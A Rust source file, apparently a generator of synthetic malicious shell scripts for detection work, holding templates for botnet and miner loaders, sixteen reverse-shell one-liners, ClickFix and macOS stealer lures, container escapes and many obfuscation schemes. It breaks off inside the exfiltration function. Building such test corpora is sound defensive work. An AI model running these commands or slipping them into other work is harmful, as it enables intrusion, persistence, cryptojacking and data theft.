//! Shell: loaders of botnets and miners, reverse shells, lures for macOS, what Bashfuscator makes.

use super::super::{base64, codes, each, gzip, hex, keyed, put, reversed, rot13, xored};
use super::{Dice, Truth, alphabet, listed, places, plain, prose};
use std::fmt::Write;

/// A word whose value is `text`; lines before it go to `before`.
pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let bare = plain(text);
    let decode = dice.pick(&["base64 -d", "base64 --decode", "openssl base64 -d -A"]);
    match dice.below(19) {
        0 => match dice.below(3) {
            0 => format!("$(echo {} | {decode})", base64(text.as_bytes())),
            1 => format!("\"`echo -n '{}'|{decode}`\"", base64(text.as_bytes())),
            _ => format!("$({decode} <<< {})", base64(text.as_bytes())),
        },
        1 => format!("$(echo '{}' | rev | {decode})", reversed(&base64(text.as_bytes()))),
        2 => format!(
            "$(echo {} | base64 -d | base64 -d)",
            base64(base64(text.as_bytes()).as_bytes())
        ),
        3 => match dice.below(3) {
            0 => format!("$(echo {} | xxd -r -p)", hex(text.as_bytes())),
            1 => format!("$(xxd -p -r <<<'{}')", hex(text.as_bytes())),
            _ => format!(
                "$(echo '{}' | sed 's/../\\\\x&/g' | xargs -0 printf '%b' | tr -d '\\n')",
                hex(text.as_bytes())
            ),
        },
        4 => match dice.below(4) {
            0 => format!("$(printf '{}')", each(text, "", |it| format!("\\x{it:02x}"))),
            1 => format!("$(printf '{}')", each(text, "", |it| format!("\\{it:03o}"))),
            2 => format!("$'{}'", each(text, "", |it| format!("\\x{it:x}"))),
            _ => format!("$(echo -ne '{}')", each(text, "", |it| format!("\\0{it:o}"))),
        },
        5 if bare => {
            if dice.chance(50) {
                format!("$(echo '{}' | tr 'A-Za-z' 'N-ZA-Mn-za-m')", rot13(text))
            } else {
                let from = "abcdefghijklmnopqrstuvwxyz0123456789";
                let to = dice.shuffled(from);
                let turned: String = text
                    .chars()
                    .map(|it| from.find(it).map_or(it, |at| char::from(to.as_bytes()[at])))
                    .collect();
                format!("$(tr '{to}' '{from}' <<< '{turned}')")
            }
        }
        6 => {
            let pieces = dice.pieces(text);
            let names: Vec<String> = pieces.iter().map(|_| dice.name()).collect();
            for at in dice.order(pieces.len()) {
                let _ = writeln!(before, "{}='{}'", names[at], pieces[at]);
            }
            let joined: String = names.iter().map(|it| format!("${{{it}}}")).collect();
            format!("\"{joined}\"")
        }
        7 if bare => {
            let letters = alphabet(dice);
            let name = dice.name();
            let at = dice.name();
            let list: Vec<String> = letters.chars().map(|it| it.to_string()).collect();
            format!(
                "$({name}=({}); for {at} in {}; do printf %s \"${{{name}[${at}]}}\"; done)",
                list.join(" "),
                listed(places(text, &letters), " ")
            )
        }
        8 => {
            let name = dice.name();
            let swapped: String = text
                .chars()
                .map(|it| {
                    if it.is_ascii_lowercase() {
                        it.to_ascii_uppercase()
                    } else {
                        it.to_ascii_lowercase()
                    }
                })
                .collect();
            let _ = writeln!(before, "{name}='{swapped}'");
            format!("\"${{{name}~~}}\"")
        }
        9 => match dice.below(2) {
            0 => format!("\"$(rev <<< '{}')\"", reversed(text)),
            _ => format!("$(printf %s '{}' | rev)", reversed(text)),
        },
        10 => {
            let packed = base64(&gzip(text.as_bytes()));
            format!(
                "\"$(echo '{packed}' | base64 -d | {})\"",
                dice.pick(&["gunzip", "gzip -dc", "zcat"])
            )
        }
        11 => {
            let name = dice.name();
            let mark = dice.mark(text).replace(['#', '~'], "Q_Z");
            let littered = dice.littered(text, &mark);
            let _ = writeln!(before, "{name}='{littered}'");
            format!("\"${{{name}//{mark}/}}\"")
        }
        12 if text.contains("http") => {
            let defanged = text.replace("http", "hxxp").replace('.', "[.]");
            format!("$(echo '{defanged}' | sed 's/hxxp/http/;s/\\[\\.\\]/./g')")
        }
        13 => format!(
            "$(awk 'BEGIN{{printf \"{}\",{}}}')",
            "%c".repeat(text.len()),
            codes(text.bytes(), ",")
        ),
        14 => {
            let key = dice.key();
            let at = dice.name();
            format!(
                "$(for {at} in {}; do printf \"\\\\x$(printf %x $(({at}^{key})))\"; done)",
                codes(xored(text, key), " ")
            )
        }
        15 => {
            let (word, name) = (dice.name(), dice.name());
            let _ = writeln!(
                before,
                "{name}() {{ local k=$1 d=$2 o= i c; for ((i=0;i<${{#d}};i+=2)); do c=$((16#${{d:i:2}} ^ $(printf '%d' \"'${{k:$((i/2%${{#k}})):1}}\"))); o+=$(printf \"\\\\x$(printf %02x $c)\"); done; printf %s \"$o\"; }}"
            );
            format!("\"$({name} {word} {})\"", hex(&keyed(text, &word)))
        }
        16 => {
            // A variable with words about it, of which a part is taken.
            let name = dice.name();
            let (front, back) = (dice.name(), dice.name());
            let _ = writeln!(before, "{name}=\"{front}{text}{back}\"");
            format!("\"${{{name}:{}:{}}}\"", front.len(), text.len())
        }
        17 => match dice.below(3) {
            0 => format!(
                "$(python3 -c \"import base64;print(base64.b64decode('{}').decode())\")",
                base64(text.as_bytes())
            ),
            1 => format!("$(perl -e 'print pack(\"H*\",\"{}\")')", hex(text.as_bytes())),
            _ => format!(
                "$(perl -MMIME::Base64 -e 'print decode_base64(\"{}\")')",
                base64(text.as_bytes())
            ),
        },
        _ => format!("$(fold -w1 <<< '{}' | tac | tr -d '\\n')", reversed(text)),
    }
}

/// Lines that stop others and say who is there, as loaders of miners start.
fn prelude(dice: &mut Dice) -> String {
    let mut out = String::from("#!/bin/bash\n");
    let lines = [
        "SHELL=/bin/bash\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n",
        "setenforce 0 2>/dev/null\necho SELINUX=disabled > /etc/selinux/config 2>/dev/null\n",
        "ulimit -n 65535\nrm -rf /var/log/syslog\nchattr -iua /tmp/ /var/tmp/ 2>/dev/null\n",
        "export HISTFILE=/dev/null\nunset HISTFILE\nexport HISTSIZE=0\n",
        "crontab -l 2>/dev/null | sed '/wget\\|curl/d' | crontab - 2>/dev/null\n",
        "ps aux | grep -v grep | grep 'kdevtmpfsi\\|xmr\\|kinsing' | awk '{print $2}' | xargs -I % kill -9 % 2>/dev/null\n",
        "iptables -F 2>/dev/null; ufw disable 2>/dev/null; sysctl kernel.nmi_watchdog=0 2>/dev/null\n",
        "if [ \"$(id -u)\" -eq 0 ]; then D=/usr/bin; else D=/tmp; fi\n",
    ];
    for line in lines {
        if dice.chance(35) {
            out.push_str(line);
        }
    }
    if dice.chance(40) {
        let _ = writeln!(out, "# {}", prose(dice, 5));
    }
    out
}

/// A script that does it, without its first line.
fn fetch_line(dice: &mut Dice, url: &str) -> String {
    let file = dice.name();
    let form = dice.pick(&[
        "curl -fsSL @URL@ | bash",
        "wget -q -O - @URL@ | sh",
        "(curl -s @URL@ || wget -qO- @URL@) | bash -sh",
        "curl -sk -o /tmp/.@FILE@ @URL@ && chmod +x /tmp/.@FILE@ && nohup /tmp/.@FILE@ >/dev/null 2>&1 &",
        "bash <(curl -s -L @URL@)",
        "cd /tmp; wget --no-check-certificate -q @URL@ -O @FILE@; chmod 777 @FILE@; ./@FILE@; rm -rf @FILE@",
        "sh -c \"$(curl -fsSL @URL@)\"",
        "source <(wget -qO- --timeout=10 --tries=3 @URL@)",
    ]);
    put(form, &[("URL", url), ("FILE", &file)])
}

/// A dropper of which `truth` tells what it contacts.
pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    match dice.below(17) {
        0 => botnet(dice, truth),
        1 => loop_of_architectures(dice, truth),
        2 | 3 => miner(dice, truth),
        4 => reverse(dice, truth),
        5 => braces(dice, truth),
        6 => own_curl(dice, truth),
        7 => lure(dice, truth),
        8 => stealer_for_mac(dice, truth),
        9 => evaluated(dice, truth),
        10 => carried(dice, truth),
        11 => fallbacks(dice, truth),
        12 => escape(dice, truth),
        13 => bashfuscated(dice, truth),
        14 => exfiltration(dice, truth),
        15 => tunnel(dice, truth),
        _ => {
            let mut before = prelude(dice);
            let url = truth.url(dice, &[".sh", "", ".txt"]);
            let word = hide(dice, &url, &mut before);
            let word = if dice.chance(50) {
                let name = dice.name();
                let _ = writeln!(before, "{name}={word}");
                format!("\"${name}\"")
            } else {
                word
            };
            let line = fetch_line(dice, &word);
            format!("{before}{line}\n")
        }
    }
}

/// Mirai and Gafgyt: a line for each architecture.
fn botnet(dice: &mut Dice, truth: &mut Truth) -> String {
    let origin = Truth::origin(dice);
    let folder = dice.pick(&["", "/bins", "/d", "/hiddenbin"]);
    let prefix = dice.pick(&["", "boatnet.", "jade.", "sora."]);
    let tag = dice.name();
    let mut out = String::from("#!/bin/sh\n");
    if dice.chance(50) {
        out.push_str(
            "ulimit -n 999999\n>/var/run/.x&&cd /var/run;>/mnt/.x&&cd /mnt;>/tmp/.x&&cd /tmp\n",
        );
    }
    let all = [
        "mips", "mpsl", "x86", "x86_64", "arm", "arm5", "arm6", "arm7", "ppc", "m68k", "sh4",
        "spc", "arc",
    ];
    let (start, end) = (dice.below(5), 8 + dice.below(6));
    let form = dice.pick(&[
        "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget @URL@; curl -O @URL@; cat @FILE@ >@TAG@; chmod +x *; ./@TAG@ @TAG@.@ARCH@",
        "wget -q @URL@ -O .@ARCH@ || busybox wget @URL@ -O .@ARCH@; chmod 777 .@ARCH@; ./.@ARCH@ @TAG@; rm -rf .@ARCH@",
        "rm -rf @FILE@; /bin/busybox wget @URL@; chmod 777 @FILE@; ./@FILE@ @TAG@",
        "curl @URL@ -o @TAG@; chmod 777 @TAG@; ./@TAG@ selfrep.@ARCH@",
    ]);
    for arch in &all[start..end.min(all.len())] {
        let file = format!("{prefix}{arch}");
        let path = format!("{folder}/{file}");
        truth.joined(&origin, &path);
        let url = format!("{origin}{path}");
        out.push_str(&put(form, &[("URL", &url), ("FILE", &file), ("TAG", &tag), ("ARCH", arch)]));
        out.push('\n');
    }
    if dice.chance(50) {
        out.push_str("rm -rf \"$0\"\n");
    }
    out
}

/// The same as a loop.
fn loop_of_architectures(dice: &mut Dice, truth: &mut Truth) -> String {
    let origin = Truth::origin(dice);
    let mut before = String::from("#!/bin/sh\n");
    let list =
        ["x86", "mips", "mpsl", "arm4", "arm5", "arm6", "arm7", "aarch64", "i586", "powerpc"];
    let list = &list[dice.below(4)..];
    let file = dice.name();
    for arch in list {
        truth.joined(&origin, &format!("/{file}.{arch}"));
    }
    let word =
        if dice.chance(50) { hide(dice, &origin, &mut before) } else { format!("\"{origin}\"") };
    let (server, names, at) = (dice.name(), dice.name(), dice.name());
    let form = dice.pick(&[
        "@SERVER@=@WORD@\n@NAMES@=\"@LIST@\"\nbinname=\"@FILE@\"\nfor @AT@ in $@NAMES@\ndo\n    rm -rf $binname.$@AT@\n    cp $SHELL $binname.$@AT@ 2>/dev/null\n    wget $@SERVER@/$binname.$@AT@ -O $binname.$@AT@ || curl -s $@SERVER@/$binname.$@AT@ -o $binname.$@AT@\n    chmod 777 $binname.$@AT@\n    ./$binname.$@AT@ ssh\ndone\n",
        "@SERVER@=@WORD@\nfor @AT@ in @LIST@; do\n  (wget -qO- \"${@SERVER@}/@FILE@.${@AT@}\" || curl -s \"${@SERVER@}/@FILE@.${@AT@}\") > .@FILE@\n  chmod +x .@FILE@ && ./.@FILE@ >/dev/null 2>&1\ndone\n",
        "@SERVER@=@WORD@\nset -- @LIST@\nwhile [ $# -gt 0 ]; do\n  @AT@=\"$@SERVER@/@FILE@.$1\"\n  curl --connect-timeout 10 -s -o /tmp/@NAMES@ \"$@AT@\"\n  chmod 700 /tmp/@NAMES@; /tmp/@NAMES@ &\n  shift\ndone\n",
        "@SERVER@=@WORD@\n@NAMES@=( @LIST@ )\nfor ((@AT@=0; @AT@<${#@NAMES@[@]}; @AT@++)); do wget -q \"$@SERVER@/@FILE@.${@NAMES@[$@AT@]}\" -P /tmp; done\n",
    ]);
    let list = list.join(" ");
    let script = put(
        form,
        &[
            ("SERVER", &server),
            ("WORD", &word),
            ("NAMES", &names),
            ("LIST", &list),
            ("FILE", &file),
            ("AT", &at),
        ],
    );
    before + &script
}

/// Kinsing, TeamTNT, 8220: binary, settings, a pool, and a crontab that asks again.
fn miner(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = prelude(dice);
    let origin = Truth::origin(dice);
    let (bin, settings, again) = (dice.name(), dice.name(), dice.name());
    let binary = if dice.chance(50) { format!("/{bin}") } else { format!("/cf/{bin}.tar.gz") };
    let script = format!("/{again}.sh");
    truth.joined(&origin, &binary);
    truth.joined(&origin, &script);
    let word =
        if dice.chance(60) { hide(dice, &origin, &mut out) } else { format!("\"{origin}\"") };
    let base = dice.pick(&["rhost", "BASE", "MHOST", "cc", "url", "SOURCE_URL"]);
    let _ = writeln!(out, "{base}={word}");
    if dice.chance(50) {
        out.push_str("LDR=\"wget -q -O -\"\nif [ -s /usr/bin/curl ]; then LDR=\"curl -s\"; fi\nif [ -s /usr/bin/wget ]; then LDR=\"wget -q -O -\"; fi\n");
        let _ = writeln!(out, "$LDR ${base}{binary} > /tmp/{bin}");
    } else {
        let _ = writeln!(
            out,
            "download() {{\n  if [ -x \"$(command -v curl)\" ]; then\n    curl -o \"$1\" \"$2\" --connect-timeout 30 -s -k\n  elif [ -x \"$(command -v wget)\" ]; then\n    wget -q -O \"$1\" \"$2\"\n  fi\n  chmod +x \"$1\"\n}}\ndownload /tmp/{bin} \"${base}{binary}\""
        );
    }
    let line = put(
        dice.pick(&[
            "(crontab -l 2>/dev/null; echo \"*/30 * * * * curl -s $@BASE@@SCRIPT@ | bash > /dev/null 2>&1\") | crontab -",
            "echo \"* * * * * wget -q -O - $@BASE@@SCRIPT@ | sh > /dev/null 2>&1\" | crontab -",
            "cat > /tmp/.@BIN@.cron <<EOF\n*/10 * * * * (curl -fsSL $@BASE@@SCRIPT@||wget -q -O- $@BASE@@SCRIPT@)|sh\nEOF\ncrontab /tmp/.@BIN@.cron",
        ]),
        &[("BASE", base), ("SCRIPT", &script), ("BIN", &bin)],
    );
    let _ = writeln!(
        out,
        "crontab -r 2>/dev/null\n{line}\n(curl -s ${base}{script} || wget -qO- ${base}{script}) | bash"
    );
    if dice.chance(60) {
        let (host, port) = truth.endpoint(dice);
        let host = hide(dice, &host, &mut out);
        let (pool, port_name) = (dice.name(), dice.name());
        let wallet = dice.name().repeat(8);
        let _ = writeln!(
            out,
            "{pool}={host}\n{port_name}={port}\ncd /tmp\nchmod +x {bin}\n./{bin} -o ${pool}:${port_name} -u 4{wallet} -p {settings} -k --donate-level=1 -B --cpu-max-threads-hint=75 >/dev/null 2>&1 &"
        );
    }
    if dice.chance(40) {
        out.push_str("history -c\nrm -rf ~/.bash_history\n");
    }
    out
}

const SHELLS: [&str; 16] = [
    "bash -i >& /dev/tcp/@HOST@/@PORT@ 0>&1",
    "sh -i >& /dev/udp/@HOST@/@PORT@ 0>&1",
    "0<&196;exec 196<>/dev/tcp/@HOST@/@PORT@; sh <&196 >&196 2>&196",
    "exec 5<>/dev/tcp/@HOST@/@PORT@;cat <&5 | while read line; do $line 2>&5 >&5; done",
    "sh -i 5<> /dev/tcp/@HOST@/@PORT@ 0<&5 1>&5 2>&5",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc @HOST@ @PORT@ >/tmp/f",
    "nc -e /bin/bash @HOST@ @PORT@",
    "nc -c sh @HOST@ @PORT@",
    "busybox nc @HOST@ @PORT@ -e sh",
    "ncat @HOST@ @PORT@ -e /bin/bash",
    "TF=$(mktemp -u);mkfifo $TF && telnet @HOST@ @PORT@ 0<$TF | sh 1>$TF",
    "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect @HOST@:@PORT@ > /tmp/s; rm /tmp/s",
    "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:@HOST@:@PORT@",
    "awk 'BEGIN {s = \"/inet/tcp/0/@HOST@/@PORT@\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null",
    "export RHOST=\"@HOST@\";export RPORT=@PORT@;python3 -c 'import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv(\"RHOST\"),int(os.getenv(\"RPORT\"))));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn(\"sh\")'",
    "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"@HOST@:@PORT@\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
];

/// revshells.com.
fn reverse(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, port) = truth.endpoint(dice);
    let port = port.to_string();
    let form = dice.pick(&SHELLS);
    // Within the quotes of other programs a variable of the shell is none.
    let taken = dice.chance(60) && !form.contains("awk") && !form.contains("perl");
    if !taken {
        let line = put(form, &[("HOST", &host), ("PORT", &port)]);
        return match dice.below(4) {
            0 if !line.contains('\'') => {
                format!("#!/bin/sh\nnohup bash -c '{line}' >/dev/null 2>&1 &\n")
            }
            1 => format!("while true; do\n  {line}\n  sleep {}\ndone\n", 5 + dice.below(60)),
            _ => format!("{line}\n"),
        };
    }
    let mut before = String::from("#!/usr/bin/env bash\n");
    let word = hide(dice, &host, &mut before);
    let (ip, number) = (dice.name(), dice.name());
    let _ = writeln!(before, "{ip}={word}\n{number}={port}");
    let line = put(form, &[("HOST", &format!("${{{ip}}}")), ("PORT", &format!("${{{number}}}"))]);
    format!("{before}{line}\n")
}

/// Commands without blanks, as they come in through Java and web parameters.
fn braces(dice: &mut Dice, truth: &mut Truth) -> String {
    let line = if dice.chance(50) {
        let (host, port) = truth.endpoint(dice);
        format!("bash -i >& /dev/tcp/{host}/{port} 0>&1")
    } else {
        let url = truth.url(dice, &[".sh", ""]);
        fetch_line(dice, &url)
    };
    let packed = base64(line.as_bytes());
    match dice.below(4) {
        0 => format!("bash -c '{{echo,{packed}}}|{{base64,-d}}|{{bash,-i}}'\n"),
        1 => format!("echo${{IFS}}{packed}|base64${{IFS}}-d|bash\n"),
        2 => format!("bash${{IFS}}-c${{IFS}}'eval $(echo {packed}|base64 -d)'\n"),
        _ => format!("sh -c '$@|sh' . echo echo {packed} '|' base64 -d '|' bash\n"),
    }
}

/// 8220 and Kinsing ask through /dev/tcp where neither curl nor wget is.
fn own_curl(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = prelude(dice);
    let mut url = dice.url(&[".sh", "", ".png"]);
    if let Some(rest) = url.strip_prefix("https") {
        url = format!("http{rest}");
    }
    truth.urls.insert(url.clone());
    let name = dice.pick(&["__curl", "_curl", "kurl", "get_remote_file"]);
    out.push_str(&put(
        "function @NAME@() {\n  read -r proto server path <<<\"$(printf '%s' \"${1//// }\")\"\n  if [ \"$proto\" != \"http:\" ]; then\n    printf >&2 \"sorry, %s supports only http\\n\" \"${FUNCNAME[0]}\"\n    return 1\n  fi\n  DOC=/${path// //}\n  HOST=${server//:*}\n  PORT=${server//*:}\n  [ \"${HOST}\" = \"${PORT}\" ] && PORT=80\n\n  exec 3<>\"/dev/tcp/${HOST}/$PORT\"\n  printf 'GET %s HTTP/1.0\\r\\nHost: %s\\r\\n\\r\\n' \"${DOC}\" \"${HOST}\" >&3\n  (while read -r line; do\n    [ \"$line\" = $'\\r' ] && break\n  done && cat) <&3\n  exec 3>&-\n}\n",
        &[("NAME", name)],
    ));
    let word = if dice.chance(60) { hide(dice, &url, &mut out) } else { url };
    let file = dice.name();
    let _ = match dice.below(3) {
        0 => writeln!(out, "{name} {word} > /tmp/{file}\nchmod +x /tmp/{file}\n/tmp/{file} &"),
        1 => writeln!(
            out,
            "if [ -x /usr/bin/{file} ]; then echo installed; else\n  {name} {word} | bash\nfi"
        ),
        _ => writeln!(
            out,
            "{file}={word}\n{name} \"${file}\" > /dev/shm/.{file}; bash /dev/shm/.{file}"
        ),
    };
    out
}

/// ClickFix: what a page puts into the clipboard for the terminal.
fn lure(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &[".sh", "", "/install.sh"]);
    let packed = base64(url.as_bytes());
    let id = 1000 + dice.below(8999);
    let script = base64(format!("curl -s {url} | bash").as_bytes());
    let inner =
        base64(format!("nohup bash -c \"$(curl -fsSL {url})\" >/dev/null 2>&1 &\n").as_bytes());
    let form = dice.pick(&[
        "echo \"I am not a robot: Cloudflare Verification ID: @ID@\" && curl -fsSL $(echo @PACKED@ | base64 -d) | nohup bash > /dev/null 2>&1 &\n",
        "/bin/bash -c \"$(curl -fsSL $(echo '@PACKED@' | base64 -d))\"\n",
        "echo \"@SCRIPT@\" | base64 -d | bash\n",
        "echo 'Installing Homebrew update, please wait...' > /dev/null; echo @INNER@ | base64 -d | bash; clear\n",
        "url='@URL@' && tmp=$(mktemp) && curl -s \"$url\" -o \"$tmp\" && chmod +x \"$tmp\" && \"$tmp\"; rm -f \"$tmp\" # Ray ID: @ID@\n",
        "curl -ksfL '@URL@' | zsh || curl -ksfL '@URL@' | bash # reCAPTCHA Verification Hash: @ID@\n",
        "echo \"Apple-Installer: https-verified package @ID@\" && eval \"$(echo '@SCRIPT@' | base64 --decode)\"\n",
    ]);
    put(
        form,
        &[
            ("ID", &id.to_string()),
            ("PACKED", &packed),
            ("SCRIPT", &script),
            ("INNER", &inner),
            ("URL", &url),
        ],
    )
}

/// AMOS and its like: a packed script, a password asked for, the loot sent away.
fn stealer_for_mac(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["/update", "", "/helper"]);
    let gate = truth.url(dice, &["/contact", "/log", "/api/v1/upload"]);
    let user = dice.name();
    let inner = put(
        "#!/bin/zsh\nusername=$(whoami)\nif [ -n \"$password_attempt\" ]; then exit 1; fi\nwrite() { mkdir -p \"$(dirname \"$1\")\"; cat > \"$1\"; }\nD=/tmp/$RANDOM$RANDOM\nmkdir -p $D\nls -la ~ > $D/info.txt 2>/dev/null\ncurl -o /tmp/.@USER@ \"@URL@\" >/dev/null 2>&1\nchmod +x /tmp/.@USER@\nxattr -c /tmp/.@USER@ 2>/dev/null\n/tmp/.@USER@ &\ntar czf /tmp/out.zip -C $D . 2>/dev/null\ncurl -X POST -H \"user: @USER@\" -H \"BuildID: 2f9\" -H \"cl: 0\" -F \"file=@/tmp/out.zip\" @GATE@\nrm -rf $D\n",
        &[("USER", &user), ("URL", &url), ("GATE", &gate)],
    );
    let name = dice.name();
    match dice.below(3) {
        0 => inner,
        1 => {
            let packed = super::lines(&base64(&gzip(inner.as_bytes())), 76).join("\n");
            format!(
                "#!/bin/zsh\n{name}=$(base64 -d <<'PAYLOAD_END' | gunzip\n{packed}\nPAYLOAD_END\n)\neval \"${name}\"\n"
            )
        }
        _ => {
            let packed = base64(inner.as_bytes());
            format!(
                "#!/bin/bash\n{name}='{packed}'\n# {}\nbash -c \"$(printf '%s' \"${name}\" | base64 --decode)\" &\n",
                prose(dice, 4)
            )
        }
    }
}

/// A script in layers that are evaluated.
fn evaluated(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut inner = prelude(dice);
    let url = truth.url(dice, &[".sh", "", ".elf"]);
    let word = hide(dice, &url, &mut inner);
    let line = fetch_line(dice, &word);
    let _ = writeln!(inner, "{line}");
    for _ in 0..1 + dice.below(3) {
        let name = dice.name();
        inner = match dice.below(6) {
            0 => format!("eval \"$(echo '{}' | base64 -d)\"\n", base64(inner.as_bytes())),
            1 => {
                format!("echo '{}' | base64 -d | gunzip | bash\n", base64(&gzip(inner.as_bytes())))
            }
            2 => format!(
                "{name}=\"{}\"\neval \"$(printf '%s' \"${name}\" | xxd -r -p)\"\n",
                hex(inner.as_bytes())
            ),
            3 => format!("bash <<< \"$(base64 -d <<< '{}')\"\n", base64(inner.as_bytes())),
            4 => format!(
                "{name}=\"{}\"\necho \"${name}\" | rev | base64 -d > /tmp/.{name}\nbash /tmp/.{name}; rm -f /tmp/.{name}\n",
                reversed(&base64(inner.as_bytes()))
            ),
            _ => {
                let pieces: String = super::lines(&base64(inner.as_bytes()), 60)
                    .iter()
                    .map(|it| format!("{name}+='{it}'\n"))
                    .collect();
                format!("{name}=''\n{pieces}echo -n \"${name}\" | base64 -d | bash\n")
            }
        };
    }
    inner
}

/// A script that carries another in a document and starts it.
fn carried(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut inner = String::from("#!/bin/sh\nsleep 1\n");
    let url = truth.url(dice, &["", ".bin", ".elf"]);
    let word = if dice.chance(50) { hide(dice, &url, &mut inner) } else { url };
    let line = fetch_line(dice, &word);
    let _ = writeln!(inner, "{line}");
    let (file, end) = (dice.name(), dice.name().to_uppercase());
    let packed = super::lines(&base64(inner.as_bytes()), 76).join("\n");
    match dice.below(3) {
        0 => format!(
            "#!/bin/bash\nbase64 -d > /tmp/.{file} << {end}\n{packed}\n{end}\nchmod +x /tmp/.{file}\nbash /tmp/.{file} &\n"
        ),
        1 => format!(
            "#!/bin/bash\ncat > /tmp/{file}.sh << '{end}'\n{inner}{end}\nchmod 755 /tmp/{file}.sh\nsetsid bash /tmp/{file}.sh < /dev/null > /dev/null 2>&1\n"
        ),
        _ => format!(
            "#!/bin/bash\nmkdir -p /tmp/.{file}\ncat > /tmp/.{file}/{file}.service <<'{end}'\n[Unit]\nDescription=System Logging Helper\nAfter=network.target\n[Service]\nExecStart=/bin/bash /tmp/.{file}/run\nRestart=always\n[Install]\nWantedBy=multi-user.target\n{end}\nbase64 -d <<'{end}' > /tmp/.{file}/run\n{packed}\n{end}\nsystemctl enable /tmp/.{file}/{file}.service 2>/dev/null\nsystemctl start {file} 2>/dev/null || bash /tmp/.{file}/run\n"
        ),
    }
}

/// One tool after the other.
fn fallbacks(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = prelude(dice);
    let url = truth.url(dice, &[".sh", "", ".x"]);
    let word = hide(dice, &url, &mut before);
    let (name, file) = (dice.name(), dice.name());
    let _ = write!(
        before,
        "{name}={word}\nOUT=/dev/shm/.{file}\nif command -v curl >/dev/null 2>&1; then\n  curl -A '{}' -fsSL \"${name}\" -o $OUT\nelif command -v wget >/dev/null 2>&1; then\n  wget -qO $OUT \"${name}\"\nelif command -v python3 >/dev/null 2>&1; then\n  python3 -c \"import urllib.request as u;open('$OUT','wb').write(u.urlopen('${name}').read())\"\nelif command -v perl >/dev/null 2>&1; then\n  perl -MLWP::Simple -e \"getstore('${name}','$OUT')\"\nfi\n[ -s $OUT ] && chmod 700 $OUT && exec -a '[kworker/0:1]' $OUT\n",
        super::agent(dice)
    );
    before
}

/// Out of a container, through the crontab of the machine about it.
fn escape(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &[".sh", ""]);
    let packed = base64(format!("(curl -fsSL {url} || wget -qO- {url}) | bash").as_bytes());
    let form = dice.pick(&[
        "chroot /mnt /bin/sh -c 'curl -fsSL @URL@ | bash;'\n",
        "mkdir -p /mnt/etc/cron.d 2>/dev/null; echo '*/5 * * * * root echo @PACKED@ | base64 -d | bash' > /mnt/etc/cron.d/zzh 2>/dev/null; echo @PACKED@ | base64 -d | bash\n",
        "for h in $(seq 1 1); do\n  ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 root@localhost '(curl -s @URL@||wget -q -O - @URL@)|bash >/dev/null 2>&1 &' 2>/dev/null || (curl -s @URL@||wget -q -O - @URL@)|bash\ndone\n",
        "#!/bin/sh\ncat >> ~/.bashrc <<'X'\n(curl -s '@URL@' | bash) >/dev/null 2>&1 &\nX\n(curl -s '@URL@' | bash) >/dev/null 2>&1 &\n",
        "nsenter --target 1 --mount --uts --ipc --net --pid -- bash -c \"wget -qO- @URL@ | bash\" || wget -qO- @URL@ | bash\n",
    ]);
    put(form, &[("URL", &url), ("PACKED", &packed)])
}

/// Tokens broken by empty quotes and parameters, as Bashfuscator does.
fn bashfuscated(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".sh"]);
    let line = fetch_line(dice, &url);
    let broken = |dice: &mut Dice, word: &str| -> String {
        word.chars()
            .map(|letter| {
                let more = dice.pick(&["", "", "''", "\"\"", "$@", "${*}", "\\"]);
                if more == "\\" && letter == 'n' {
                    letter.to_string()
                } else {
                    format!("{more}{letter}")
                }
            })
            .collect()
    };
    match dice.below(4) {
        0 => {
            let (eval, rev) = (broken(dice, "eval"), broken(dice, "rev"));
            format!("{eval} \"$( {rev} <<< '{}' )\"\n", reversed(&line))
        }
        1 => {
            let (name, at) = (dice.name(), dice.name());
            let mut letters = String::new();
            for letter in line.chars() {
                if !letters.contains(letter) {
                    letters.push(letter);
                }
            }
            let letters = dice.shuffled(&letters);
            let list: Vec<String> =
                letters
                    .chars()
                    .map(|it| {
                        if it.is_ascii_alphanumeric() { it.to_string() } else { format!("\\{it}") }
                    })
                    .collect();
            let (bash, printf) = (broken(dice, "bash"), broken(dice, "printf"));
            format!(
                "{name}=({});for {at} in {};do {printf} %s \"${{{name}[${at}]}}\";done | {bash}\n",
                list.join(" "),
                listed(places(&line, &letters), " ")
            )
        }
        2 => {
            let (bash, base) = (broken(dice, "bash"), broken(dice, "base64"));
            format!("{bash} -c \"$({base} -d <<< '{}')\"\n", base64(line.as_bytes()))
        }
        _ => {
            let (name, curl, sh) = (dice.name(), broken(dice, "curl"), broken(dice, "bash"));
            let mut before = String::new();
            let word = hide(dice, &url, &mut before);
            format!(
                "{before}{name}={word}; ${{@}} {curl} -s\"\"k \"${{{name}}}\" ${{*}} | {sh} \"$@\"\n"
            )
        }
    }
}

/// What a package's script sends home when it is installed.
fn exfiltration(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::from("#!/bin/bash\n");
    let url = truth.url(dice, &["", "/collect", "/hook"]);
    let word = hide(dice, &url, &mut before);
    let (name, data) = (dice.name(), dice.name());
